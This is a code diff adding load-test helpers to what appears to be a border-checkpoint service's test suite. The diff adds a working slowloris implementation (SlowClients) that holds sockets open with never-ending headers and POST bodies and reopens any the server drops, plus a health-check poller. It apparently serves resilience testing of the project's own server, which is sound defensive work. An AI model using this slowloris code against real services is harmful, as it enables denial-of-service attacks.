@@ -6,9 +6,11 @@ from __future__ import annotations
 import http.client
 import itertools
 import json
+import socket
 import threading
 import time
 import uuid
+from collections import Counter
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
@@ -144,3 +146,126 @@ class Load:
     def snapshot(self) -> list[Answer]:
         with self._lock:
             return list(self.answers)
+
+
+class SlowClients:
+    """Sockets that each send one byte every `interval` seconds, as slowloris does: most
+    send a request header that never ends, the rest a POST /v1/customs/check body that
+    never ends. A socket the server drops is opened again (the attacker's only cost)."""
+
+    HEADER = b"GET /v1/checkpoints HTTP/1.1\r\nHost: myborder\r\nUser-Agent: slow\r\n"
+    BODY_HEAD = (
+        b"POST /v1/customs/check HTTP/1.1\r\nHost: myborder\r\n"
+        b"Content-Type: application/json\r\nContent-Length: 65536\r\n\r\n{"
+    )
+
+    def __init__(self, base: str, *, sockets: int, bodies: int, interval: float) -> None:
+        url = urlparse(base)
+        self.address = (url.hostname or "127.0.0.1", url.port or 80)
+        self.kinds = ["body" if n < bodies else "header" for n in range(sockets)]
+        self.interval = interval
+        self.opened: Counter[str] = Counter()  # connections made, by kind
+        self.dropped: Counter[str] = Counter()  # of them, closed or reset by the server
+        self.bytes_sent = 0
+        self._sockets: list[socket.socket | None] = [None] * sockets
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> SlowClients:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_exc: object) -> None:
+        self._stop.set()
+        self._thread.join(timeout=self.interval + 10)
+        for sock in self._sockets:
+            if sock is not None:
+                sock.close()
+
+    def open_now(self) -> int:
+        """How many of the sockets are connected at this moment."""
+        return sum(1 for sock in self._sockets if sock is not None)
+
+    def _open(self, n: int) -> None:
+        kind = self.kinds[n]
+        try:
+            sock = socket.create_connection(self.address, timeout=2)
+            sock.sendall(self.HEADER if kind == "header" else self.BODY_HEAD)
+        except OSError:
+            return  # tried again at the next tick
+        self.opened[kind] += 1
+        self._sockets[n] = sock
+
+    def _tick(self, n: int) -> None:
+        sock = self._sockets[n]
+        if sock is None:
+            self._open(n)
+            return
+        try:
+            # a server that gave up answers 408/400 or closes: the byte then fails, or
+            # the socket reads as closed
+            sock.setblocking(False)
+            try:
+                closed = sock.recv(4096) == b""
+                answered = not closed
+            except BlockingIOError:
+                closed = answered = False
+            sock.setblocking(True)
+            if closed or answered:
+                raise ConnectionResetError()
+            sock.sendall(b"a" if self.kinds[n] == "header" else b" ")
+            self.bytes_sent += 1
+        except OSError:
+            sock.close()
+            self._sockets[n] = None
+            self.dropped[self.kinds[n]] += 1
+            self._open(n)
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            for n in range(len(self._sockets)):
+                self._tick(n)
+            self._stop.wait(self.interval)
+
+
+@dataclass
+class Poll:
+    """One path polled every `every` seconds with a `timeout`, as a health check does."""
+
+    base: str
+    path: str
+    every: float = 0.25
+    timeout: float = 3.0
+    answers: list[Answer] = field(default_factory=list)
+
+    def __post_init__(self) -> None:
+        url = urlparse(self.base)
+        self.host, self.port = url.hostname or "127.0.0.1", url.port or 80
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> Poll:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_exc: object) -> None:
+        self._stop.set()
+        self._thread.join(timeout=self.timeout + 5)
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            started = time.monotonic()
+            connection = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
+            try:
+                connection.request("GET", self.path, headers={"Accept-Encoding": "gzip"})
+                response = connection.getresponse()
+                response.read()
+                answer = Answer("read", self.path, started, time.monotonic(), response.status)
+            except (OSError, http.client.HTTPException) as error:
+                answer = Answer(
+                    "read", self.path, started, time.monotonic(), None, error=type(error).__name__
+                )
+            finally:
+                connection.close()
+            self.answers.append(answer)
+            self._stop.wait(self.every)
